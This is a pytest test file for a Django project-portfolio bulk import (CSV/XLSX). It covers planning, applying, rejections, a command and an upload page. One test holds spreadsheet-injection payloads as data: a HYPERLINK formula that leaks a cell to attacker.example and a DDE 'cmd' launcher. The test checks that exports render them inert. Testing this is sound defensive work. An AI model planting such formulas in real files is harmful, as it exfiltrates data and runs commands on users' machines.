"""The bulk import of projects: plan, apply, re-import, rejections, XLSX, command and web page."""

import csv
import datetime
import getpass
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import include, path
from openpyxl import Workbook, load_workbook

from core.models import ObjectChange
from hamkor.permissions import SYSTEM
from portfolio import downloads, selectors, services
from portfolio.imports import DERIVED_COLUMNS, INPUT_COLUMNS, ImportRejected, apply_import, plan_import
from portfolio.models import Project, StatusChange
from portfolio.urls import urlpatterns as portfolio_urlpatterns
from portfolio.views import imports as import_views

pytestmark = pytest.mark.django_db

# The web tests use this module as the URL configuration: the project's URLs with the import page
# where src/portfolio/urls.py is to route it.
urlpatterns = [
    path(
        'portfolio/',
        include(
            (
                [
                    path('projects/import/', import_views.project_import, name='project_import'),
                    *portfolio_urlpatterns,
                ],
                'portfolio',
            )
        ),
    ),
    path('', include('hamkor.urls')),
]
URL = '/portfolio/projects/import/'

HEADER = 'identifier,title_en,status,sectors,region,parent,is_umbrella,planned_start,planned_end'
VALID = f"""{HEADER}
P-EXIST,Existing,proposal,mining 60%; geology 40%,UZ-NW,,no,,
P-UPD,New title,negotiation,,,,no,,
P-NEW,Solar park,implementation,green_energy 80%; agrivoltaics 20%,UZ-SA,FRAME,no,2024-01-01,2026-12-31
FRAME,Framework agreement,agreement_signed,,UZ,,yes,,
"""
SECTOR_CODES = (
    'agriculture_water, agrivoltaics, artificial_intelligence, chemistry, coal_chemistry, geology, green_energy, '
    'manufacturing, mining, rare_earths, seed_production, standards, transport'
)
STATUS_CODES = (
    'proposal, negotiation, agreement_signed, financing_closed, implementation, completed, suspended, cancelled'
)


def write(directory: Path, text: str, name: str = 'projects.csv') -> Path:
    file = directory / name
    file.write_text(text, encoding='utf-8')
    return file


@pytest.fixture
def existing(make_project):
    """The two projects VALID refers to: one it leaves as it is, one it changes."""
    make_project('P-EXIST', title_en='Existing', split={'mining': 60, 'geology': 40}, region='UZ-NW')
    make_project('P-UPD', title_en='Old title')


def snapshot() -> tuple:
    """Everything an import could write, to show that nothing was."""
    return (
        sorted(Project.objects.values_list('identifier', 'title_en', 'status', 'parent__identifier')),
        ObjectChange.objects.count(),
        StatusChange.objects.count(),
    )


def test_the_input_columns_are_the_export_columns():
    assert sorted(INPUT_COLUMNS + DERIVED_COLUMNS) == sorted(downloads.COLUMNS)


def test_dry_run_plans_every_row_and_writes_nothing(existing, tmp_path):
    file = write(tmp_path, VALID)
    before = snapshot()

    plan = plan_import(file, 'projects.csv', actor=SYSTEM)
    out = io.StringIO()
    call_command('import_projects', str(file), '--dry-run', stdout=out)

    assert plan.counts == {'create': 2, 'update': 1, 'unchanged': 1, 'reject': 0}
    assert [(row.line, row.identifier, row.action, row.changes, row.problems) for row in plan.rows] == [
        (2, 'P-EXIST', 'unchanged', [], []),
        (3, 'P-UPD', 'update', ['title_en', 'status'], []),
        (4, 'P-NEW', 'create', [], []),
        (5, 'FRAME', 'create', [], []),
    ]
    assert out.getvalue() == (
        'projects.csv: 2 to create, 1 to update, 1 unchanged, 0 rejected\ndry run: nothing was written\n'
    )
    assert snapshot() == before


def test_apply_writes_through_the_services_under_the_import_channel(existing, tmp_path):
    changes_before = ObjectChange.objects.count()

    result = apply_import(plan_import(write(tmp_path, VALID), 'projects.csv', actor=SYSTEM), actor=SYSTEM)

    new = Project.objects.get(identifier='P-NEW')
    frame = Project.objects.get(identifier='FRAME')
    updated = Project.objects.get(identifier='P-UPD')
    assert (result.created, result.updated, result.unchanged) == (2, 1, 1)
    assert (new.title_en, new.status, new.stage, new.region, new.parent, new.planned_start, new.planned_end) == (
        'Solar park', 'implementation', 'implementation', 'UZ-SA', frame,
        datetime.date(2024, 1, 1), datetime.date(2026, 12, 31),
    )  # fmt: skip
    assert [(share.sector.code, share.percentage) for share in new.sectors.all()] == [
        ('green_energy', Decimal('80.00')),
        ('agrivoltaics', Decimal('20.00')),
    ]
    assert (frame.status, frame.is_umbrella, frame.in_aggregates, frame.region) == (
        'agreement_signed', True, False, 'UZ',
    )  # fmt: skip
    assert (updated.title_en, updated.status) == ('New title', 'negotiation')
    assert list(updated.status_changes.values_list('previous', 'new', 'reason')) == [
        ('proposal', 'negotiation', 'Imported from projects.csv')
    ]
    changes = ObjectChange.objects.filter(request_id=result.request_id).order_by('id')
    process = f'import:{getpass.getuser()}'  # no signed-in user: the system account that ran the import
    assert [(change.action, change.object_repr, change.channel, change.actor_name) for change in changes] == [
        ('update', 'P-UPD New title', 'import', process),
        ('update', 'P-UPD New title', 'import', process),
        ('create', 'FRAME Framework agreement', 'import', process),
        ('create', 'P-NEW Solar park', 'import', process),
    ]
    assert ObjectChange.objects.count() == changes_before + 4


def test_importing_the_same_file_again_changes_nothing(existing, tmp_path):
    file = write(tmp_path, VALID)
    apply_import(plan_import(file, 'projects.csv', actor=SYSTEM), actor=SYSTEM)
    before = snapshot()

    plan = plan_import(file, 'projects.csv', actor=SYSTEM)
    result = apply_import(plan, actor=SYSTEM)

    assert plan.counts == {'create': 0, 'update': 0, 'unchanged': 4, 'reject': 0}
    assert (result.created, result.updated, result.unchanged) == (0, 0, 4)
    assert snapshot() == before
    assert Project.objects.filter(identifier='P-NEW').count() == 1


@pytest.fixture
def portfolio(make_project):
    """Projects using every importable column."""
    frame = make_project('A-FRAME', title_en='Framework', is_umbrella=True, visibility='restricted', region='UZ')
    make_project(
        'B-PART', title_en='Copper, "deep" processing', title_ru='Медь', title_zh='铜', title_uz='Mis',
        status='implementation', split={'mining': '33.33', 'geology': '33.33', 'chemistry': '33.34'},
        region='UZ-NW', parent=frame, planned_start=datetime.date(2024, 3, 1), planned_end=datetime.date(2027, 6, 30),
        actual_start=datetime.date(2024, 5, 2), is_illustrative=True,
    )  # fmt: skip
    make_project('C-SOLO', status='cancelled', split={'green_energy': 60, 'agrivoltaics': 40}, visibility='side_cn')
    return selectors.project_filter(SYSTEM, {}).qs  # what the download of every project holds


def test_an_exported_csv_imports_back_unchanged(portfolio, tmp_path):
    file = tmp_path / 'export.csv'
    file.write_text(''.join(downloads.stream_csv(portfolio)), encoding='utf-8')
    before = snapshot()

    plan = plan_import(file, actor=SYSTEM)
    apply_import(plan, actor=SYSTEM)

    assert plan.counts == {'create': 0, 'update': 0, 'unchanged': 3, 'reject': 0}
    assert snapshot() == before


def test_an_exported_xlsx_imports_back_unchanged(portfolio, tmp_path):
    file = tmp_path / 'export.xlsx'
    downloads.write_xlsx(portfolio, file)

    plan = plan_import(file, actor=SYSTEM)

    assert (plan.unit, plan.counts) == ('row', {'create': 0, 'update': 0, 'unchanged': 3, 'reject': 0})


def test_an_edited_export_updates_only_what_changed(portfolio, tmp_path):
    text = ''.join(downloads.stream_csv(portfolio)).replace('UZ-NW', 'UZ-SA').replace('33.34%', '33.3400%')
    plan = plan_import(write(tmp_path, text, 'export.csv'), actor=SYSTEM)

    apply_import(plan, actor=SYSTEM)

    assert [(row.identifier, row.action, row.changes) for row in plan.rows] == [
        ('A-FRAME', 'unchanged', []),
        ('B-PART', 'update', ['region']),
        ('C-SOLO', 'unchanged', []),
    ]
    assert Project.objects.get(identifier='B-PART').region == 'UZ-SA'


BAD_HEADER = 'identifier,title_en,status,sectors,planned_start,planned_end,parent'
NO_PARENT = 'parent NOPE is neither in the file nor among the projects you may see'
CYCLE = 'This parent would make the project its own ancestor.'
NOT_A_DATE = 'is not a date (YYYY-MM-DD)'


def at(line: int, field: str, message: str) -> str:
    """A rejection as it reads: projects.csv, line N, field 'F': message."""
    return (
        f"projects.csv, line {line}, field '{field}': {message}" if field else f'projects.csv, line {line}: {message}'
    )


@pytest.mark.parametrize(
    ('rows', 'expected'),
    [
        ('N-1,New,started,,,,', [
            at(2, 'status', f"Value 'started' is not a valid choice. Known codes: {STATUS_CODES}."),
        ]),
        ('N-1,New,,mining 60%; geology 30%,,,', [at(2, 'sectors', 'Sector shares add up to 90 %, not 100 %.')]),
        ('N-1,New,,mining 60%; mining 40%,,,', [at(2, 'sectors', 'A sector is listed twice.')]),
        ('N-1,New,,mining 50%; gold 50%,,,', [
            at(2, 'sectors', f"unknown sector code 'gold'; the codes are {SECTOR_CODES}"),
        ]),
        ('N-1,New,,mining half,,,', [at(2, 'sectors', "'half' is not a percentage")]),
        ('N-1,New,,mining,,,', [at(2, 'sectors', """'mining' is not a share like "mining 60%\"""")]),
        ('N-1,New,,,2025-01-01,2024-01-01,', [
            at(2, 'planned_start/planned_end', 'The planned end is before the planned start.'),
        ]),
        ('N-1,New,,,2024-02-30,,', [at(2, 'planned_start', f"'2024-02-30' {NOT_A_DATE}")]),
        ('N-1,New,,,1.3.2024,,', [at(2, 'planned_start', f"'1.3.2024' {NOT_A_DATE}")]),
        ('N-1,New,,,,,NOPE', [at(2, 'parent', NO_PARENT)]),
        ('N-1,New,,,,,N-1', [at(2, 'parent', CYCLE)]),
        ('A,A,,,,,B\nB,B,,,,,A', [at(2, 'parent', CYCLE), at(3, 'parent', CYCLE)]),
        ('N-1,,,,,,', [at(2, 'title_en', 'This field cannot be blank.')]),
        (',New,,,,,', [at(2, 'identifier', 'the identifier is empty: every row names its project')]),
        ('N-1,New', [at(2, '', 'the row has 2 values but the header has 7 columns')]),
        ('N-1,New,,,,,,extra', [at(2, '', 'the row has 8 values but the header has 7 columns')]),
        ('P-C,,implementation,,,,', [at(2, 'status', 'A cancelled project cannot change status.')]),
        ('N-1,,started,mining 50%,2024-13-01,,', [
            at(2, 'planned_start', f"'2024-13-01' {NOT_A_DATE}"),
            at(2, 'sectors', 'Sector shares add up to 50 %, not 100 %.'),
            at(2, 'title_en', 'This field cannot be blank.'),
            at(2, 'status', f"Value 'started' is not a valid choice. Known codes: {STATUS_CODES}."),
        ]),
        ('N-1,"A title\nover two lines",,,,,\n\nN-2,New,,,,,NOPE', [
            at(5, 'parent', NO_PARENT),
        ]),
    ],
    ids=[
        'unknown-status', 'shares-not-100', 'sector-twice', 'unknown-sector', 'bad-percentage', 'bad-share',
        'end-before-start', 'impossible-date', 'not-iso-date', 'parent-not-found', 'own-parent', 'parent-cycle',
        'new-without-title', 'no-identifier', 'short-row', 'long-row', 'cancelled-cannot-move', 'several-at-once',
        'lines-counted-in-multiline-csv',
    ],
)  # fmt: skip
def test_bad_rows_are_rejected_with_file_line_and_field_and_nothing_is_written(make_project, tmp_path, rows, expected):
    make_project('P-C', status='cancelled')
    before = snapshot()
    plan = plan_import(write(tmp_path, f'{BAD_HEADER}\n{rows}\n'), 'projects.csv', actor=SYSTEM)

    with pytest.raises(ImportRejected) as raised:
        apply_import(plan, actor=SYSTEM)

    assert [str(problem) for problem in plan.problems] == expected
    assert str(raised.value) == f'{len(expected)} problem(s), nothing was imported:\n' + '\n'.join(
        f'  {line}' for line in expected
    )
    assert snapshot() == before


@pytest.mark.parametrize(
    ('content', 'name', 'expected'),
    [
        (f'{HEADER},budget\n', 'projects.csv', [
            "projects.csv, line 1, field 'budget': unknown column; an import reads identifier, data_status, title_en, "
            'title_ru, title_zh, title_uz, status, sectors, region, parent, is_umbrella, visibility, planned_start, '
            'planned_end, actual_start, actual_end (and ignores the derived columns of the export)'
        ]),
        ('title_en,status\nNew,proposal\n', 'projects.csv', [
            "projects.csv, line 1, field 'identifier': the header has no identifier column"
        ]),
        ('identifier,status,status\n', 'projects.csv', [
            "projects.csv, line 1, field 'status': the column appears twice in the header"
        ]),
        ('\n\n', 'projects.csv', ['projects.csv, line 1: the file is empty']),
        ('identifier,title_en\nN-1,Caf\xe9\n'.encode('latin-1'), 'projects.csv', [
            'projects.csv, line 2: the file is not UTF-8 text (save it as CSV UTF-8)'
        ]),
        (b'identifier\nN-1\n', 'projects.xls', [
            'projects.xls, line 1: unsupported file type; expected a .csv or .xlsx file'
        ]),
        (b'not a workbook', 'projects.xlsx', [
            'projects.xlsx, row 1: the file is not a readable XLSX workbook: File is not a zip file'
        ]),
    ],
    ids=['unknown-column', 'no-identifier-column', 'column-twice', 'empty', 'not-utf8', 'not-csv-or-xlsx', 'not-xlsx'],
)  # fmt: skip
def test_a_file_that_cannot_be_read_is_refused_as_a_whole(tmp_path, content, name, expected):
    file = tmp_path / name
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    before = snapshot()

    plan = plan_import(file, actor=SYSTEM)

    assert ([str(problem) for problem in plan.problems], plan.rows) == (expected, [])
    with pytest.raises(ImportRejected):
        apply_import(plan, actor=SYSTEM)
    assert snapshot() == before


def test_an_identifier_twice_in_the_file_is_rejected_at_both_lines(tmp_path):
    rows = ['P-0,First', 'P-1,Once', 'P-2,Other', 'P-3,Other', 'P-4,Other', 'P-1,Twice']
    plan = plan_import(write(tmp_path, 'identifier,title_en\n' + '\n'.join(rows) + '\n'), 'projects.csv', actor=SYSTEM)

    with pytest.raises(ImportRejected):
        apply_import(plan, actor=SYSTEM)

    message = 'identifier P-1 appears twice in the file (lines 3 and 7): a project is created once'
    assert [str(problem) for problem in plan.problems] == [
        f"projects.csv, line 3, field 'identifier': {message}",
        f"projects.csv, line 7, field 'identifier': {message}",
    ]
    assert plan.counts == {'create': 4, 'update': 0, 'unchanged': 0, 'reject': 2}
    assert not Project.objects.filter(identifier__in=['P-0', 'P-1']).exists()


def test_a_project_created_since_the_plan_is_refused_not_duplicated(tmp_path):
    plan = plan_import(write(tmp_path, 'identifier,title_en\nN-0,Zero\nN-1,One\n'), 'projects.csv', actor=SYSTEM)
    services.create_project(actor=SYSTEM, identifier='N-1', title_en='Created meanwhile')

    with pytest.raises(ImportRejected) as raised:
        apply_import(plan, actor=SYSTEM)

    assert [str(problem) for problem in raised.value.problems] == [
        "projects.csv, line 3, field 'identifier': Project with this Identifier already exists."
    ]
    assert list(Project.objects.filter(identifier__startswith='N-').values_list('identifier', 'title_en')) == [
        ('N-1', 'Created meanwhile')
    ]


def test_parents_are_written_first_even_when_a_child_is_moved_above_its_new_parent(make_project, tmp_path):
    top = make_project('TOP')
    make_project('MID', parent=top)
    # Today TOP ← MID; the file turns it round (MID ← TOP) and hangs a new project under TOP.
    file = write(tmp_path, 'identifier,title_en,parent\nNEW,New,TOP\nTOP,Top,MID\nMID,Mid,\n')

    plan = plan_import(file, actor=SYSTEM)
    apply_import(plan, actor=SYSTEM)

    assert [(row.identifier, row.action, row.changes) for row in plan.rows] == [
        ('NEW', 'create', []),
        ('TOP', 'update', ['title_en', 'parent']),
        ('MID', 'update', ['title_en', 'parent']),
    ]
    assert dict(Project.objects.values_list('identifier', 'parent__identifier')) == {
        'MID': None,
        'TOP': 'MID',
        'NEW': 'TOP',
    }


def xlsx(directory: Path, rows: list[list], name: str = 'projects.xlsx') -> Path:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    file = directory / name
    workbook.save(file)
    return file


def test_xlsx_cells_of_any_type_are_read_like_csv_text(make_project, tmp_path):
    make_project('X-OLD', title_en='Old')
    header = [
        'identifier',
        'data_status',
        'title_en',
        'status',
        'sectors',
        'is_umbrella',
        'planned_start',
        'value_year',
    ]
    file = xlsx(
        tmp_path,
        [
            header,
            ['X-1', 'illustrative', 'Railway', 'negotiation', 'transport 100%', True, datetime.date(2025, 4, 1), 2025],
            [None] * len(header),
            # Excel stores dates as date-times at midnight (naive: a spreadsheet has no time zone).
            ['X-OLD', 'recorded', 'Old', 'proposal', None, False, datetime.datetime(2024, 1, 31), None],  # noqa: DTZ001
        ],
    )

    plan = plan_import(file, actor=SYSTEM)
    apply_import(plan, actor=SYSTEM)

    assert [(row.line, row.identifier, row.action, row.changes) for row in plan.rows] == [
        (2, 'X-1', 'create', []),
        (4, 'X-OLD', 'update', ['planned_start']),
    ]
    created = Project.objects.get(identifier='X-1')
    assert (created.status, created.is_umbrella, created.is_illustrative, created.planned_start) == (
        'negotiation', True, True, datetime.date(2025, 4, 1),
    )  # fmt: skip
    assert [(share.sector.code, share.percentage) for share in created.sectors.all()] == [
        ('transport', Decimal('100.00'))
    ]
    assert Project.objects.get(identifier='X-OLD').planned_start == datetime.date(2024, 1, 31)


def test_xlsx_rejections_name_the_row(tmp_path):
    file = xlsx(tmp_path, [['identifier', 'title_en', 'visibility'], ['X-1', 'One', 'secret'], ['X-1', 'Two', None]])

    plan = plan_import(file, actor=SYSTEM)

    assert [str(problem) for problem in plan.problems] == [
        "projects.xlsx, row 2, field 'identifier': "
        'identifier X-1 appears twice in the file (rows 2 and 3): a project is created once',
        "projects.xlsx, row 2, field 'visibility': Value 'secret' is not a valid choice. "
        'Known codes: public, partners, side_uz, side_cn, restricted.',
        "projects.xlsx, row 3, field 'identifier': "
        'identifier X-1 appears twice in the file (rows 2 and 3): a project is created once',
    ]


def test_the_command_applies_a_valid_file(existing, tmp_path):
    out = io.StringIO()

    call_command('import_projects', str(write(tmp_path, VALID)), stdout=out)

    lines = out.getvalue().splitlines()
    request_id = ObjectChange.objects.get(action='create', object_repr__startswith='FRAME').request_id
    assert lines == [
        'projects.csv: 2 to create, 1 to update, 1 unchanged, 0 rejected',
        f'imported: 2 created, 1 updated, 1 unchanged (change log request {request_id})',
    ]
    assert Project.objects.filter(identifier__in=['P-NEW', 'FRAME']).count() == 2


def test_the_command_refuses_a_file_with_rejections_and_writes_nothing(existing, tmp_path):
    file = write(tmp_path, VALID + 'P-BAD,Bad,started,,,,,,\n')
    before = snapshot()
    out = io.StringIO()

    with pytest.raises(CommandError) as raised:
        call_command('import_projects', str(file), stdout=out)

    assert str(raised.value) == '1 problem(s) in projects.csv: nothing was written'
    assert out.getvalue().splitlines() == [
        'projects.csv: 2 to create, 1 to update, 1 unchanged, 1 rejected',
        f"  rejected: projects.csv, line 6, field 'status': Value 'started' is not a valid choice. "
        f'Known codes: {STATUS_CODES}.',
    ]
    assert snapshot() == before


def test_the_command_names_a_missing_file(tmp_path):
    with pytest.raises(CommandError, match='no-such.csv: no such file'):
        call_command('import_projects', str(tmp_path / 'no-such.csv'))


#
# The web page
#


@pytest.fixture
def web(settings, tmp_path):
    settings.ROOT_URLCONF = __name__
    settings.MEDIA_ROOT = tmp_path / 'media'
    return settings


def upload(text: str, name: str = 'projects.csv') -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode(), content_type='text/csv')


def test_anonymous_visitors_are_sent_to_log_in(web, client):
    response = client.get(URL)

    assert (response.status_code, response['Location']) == (302, '/accounts/login/?next=/portfolio/projects/import/')


def test_an_applicant_may_not_import(web, client_as):
    client = client_as('applicant')

    assert client.get(URL).status_code == 403
    assert client.post(URL, {'action': 'preview', 'file': upload(VALID)}).status_code == 403
    assert not (web.MEDIA_ROOT / 'imports').exists()


def test_the_secretariat_previews_then_applies(web, client_as, existing):
    client = client_as('secretariat')
    user = client.get(URL).context['user']
    before = snapshot()

    preview = client.post(URL, {'action': 'preview', 'file': upload(VALID)})

    plan, token = preview.context['plan'], preview.context['token']
    stored = web.MEDIA_ROOT / 'imports' / token / 'file.csv'
    html = preview.content.decode()
    assert preview.status_code == 200
    assert plan.counts == {'create': 2, 'update': 1, 'unchanged': 1, 'reject': 0}
    assert stored.read_text() == VALID
    assert 'Preview of projects.csv' in html and f'name="token" value="{token}"' in html
    assert '<span class="mono">title_en, status</span>' in html
    assert snapshot() == before

    applied = client.post(URL, {'action': 'apply', 'token': token, 'filename': 'projects.csv'})

    assert (applied.status_code, applied['Location']) == (302, '/portfolio/projects/')
    assert Project.objects.get(identifier='P-NEW').parent.identifier == 'FRAME'
    changes = ObjectChange.objects.filter(object_repr__in=['FRAME Framework agreement', 'P-NEW Solar park'])
    assert sorted(changes.values_list('action', 'channel', 'actor')) == [
        ('create', 'import', user.pk),
        ('create', 'import', user.pk),
    ]
    assert not stored.exists()
    assert [str(message) for message in client.get('/portfolio/projects/').context['messages']] == [
        'Imported projects.csv: 2 created, 1 updated, 1 unchanged.'
    ]


def test_a_preview_with_rejections_offers_no_apply_and_apply_writes_nothing(web, client_as, existing):
    client = client_as('secretariat')
    before = snapshot()

    preview = client.post(URL, {'action': 'preview', 'file': upload(VALID + 'P-BAD,Bad,started,,,,,,\n')})
    applied = client.post(URL, {'action': 'apply', 'token': preview.context['token'], 'filename': 'projects.csv'})

    assert 'value="apply"' not in preview.content.decode()
    assert 'Value &#x27;started&#x27; is not a valid choice.' in preview.content.decode()
    assert applied.status_code == 200
    assert applied.context['error'] == (
        'Some rows are rejected: nothing was written. Correct the file and upload it again.'
    )
    assert snapshot() == before


@pytest.mark.parametrize('token', ['../../hamkor', 'A' * 32, '0' * 31, '', 'g' * 32])
def test_apply_accepts_only_a_token_it_issued(web, client_as, token):
    client = client_as('secretariat')
    # An upload stored under the lower-case form of a well-sized token is still not reachable by it.
    (web.MEDIA_ROOT / 'imports').mkdir(parents=True)
    if len(token) == 32:
        (web.MEDIA_ROOT / 'imports' / token.lower()).mkdir()
        (web.MEDIA_ROOT / 'imports' / token.lower() / 'file.csv').write_text(VALID)
        (web.MEDIA_ROOT / 'imports' / token.lower() / 'options.json').write_text('{}')
    before = snapshot()

    response = client.post(URL, {'action': 'apply', 'token': token})

    assert (response.status_code, response.context['error']) == (
        400,
        'The uploaded file is no longer available: upload it again.',
    )
    assert snapshot() == before


def test_a_file_of_another_type_is_refused_by_the_form(web, client_as):
    response = client_as('secretariat').post(URL, {'action': 'preview', 'file': upload('x', 'projects.txt')})

    assert response.context['form'].errors == {'file': ['Choose a .csv or .xlsx file.']}
    assert 'plan' not in response.context


def test_updates_need_the_change_permission_too(web, client, make_user, existing):
    user = make_user(None)
    user.user_permissions.add(Permission.objects.get(codename='add_project'))
    client.force_login(user)
    before = snapshot()

    preview = client.post(URL, {'action': 'preview', 'file': upload(VALID)})
    applied = client.post(URL, {'action': 'apply', 'token': preview.context['token'], 'filename': 'projects.csv'})

    assert applied.status_code == 403
    assert snapshot() == before


FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_exports_write_formulas_inert_and_import_them_back_unchanged(make_project, tmp_path):
    make_project('F-1', title_en=FORMULA_TITLE, title_ru="@SUM(1+1)*cmd|' /C calc'!A0")
    projects = selectors.project_filter(SYSTEM, {}).qs
    csv_file, xlsx_file = tmp_path / 'export.csv', tmp_path / 'export.xlsx'
    csv_file.write_text(''.join(downloads.stream_csv(projects)), encoding='utf-8')
    downloads.write_xlsx(projects, xlsx_file)

    row = next(csv.DictReader(io.StringIO(csv_file.read_text(encoding='utf-8-sig'))))
    assert (row['title_en'], row['title_ru']) == ("'" + FORMULA_TITLE, "'@SUM(1+1)*cmd|' /C calc'!A0")
    cell = load_workbook(xlsx_file)['projects'].cell(row=2, column=downloads.COLUMNS.index('title_en') + 1)
    assert (cell.data_type, cell.value) == ('s', "'" + FORMULA_TITLE)  # text, not a formula
    for file in (csv_file, xlsx_file):
        assert plan_import(file, actor=SYSTEM).counts == {'create': 0, 'update': 0, 'unchanged': 1, 'reject': 0}


@pytest.mark.parametrize('separator', [';', '\t'])
def test_semicolon_and_tab_separated_files_read_as_the_comma_separated_one(existing, tmp_path, separator):
    """Excel saves CSV with semicolons in the Russian and Uzbek locales (the comma is their
    decimal mark); a sheet copied as text is tab-separated."""
    rewritten = io.StringIO()
    csv.writer(rewritten, delimiter=separator, lineterminator='\n').writerows(csv.reader(io.StringIO(VALID)))
    comma = plan_import(write(tmp_path, VALID), 'projects.csv', actor=SYSTEM)

    other = plan_import(write(tmp_path, rewritten.getvalue(), 'other.csv'), 'other.csv', actor=SYSTEM)

    assert [(row.line, row.identifier, row.action, row.changes, row.values) for row in other.rows] == [
        (row.line, row.identifier, row.action, row.changes, row.values) for row in comma.rows
    ]
    assert other.counts == comma.counts == {'create': 2, 'update': 1, 'unchanged': 1, 'reject': 0}


def test_a_refused_file_is_summarised_as_refused_not_as_rows_counted(tmp_path):
    plan = plan_import(write(tmp_path, '\n\n'), 'projects.csv', actor=SYSTEM)

    assert plan.summary() == 'the file is refused (1 problem(s)): no row was read'
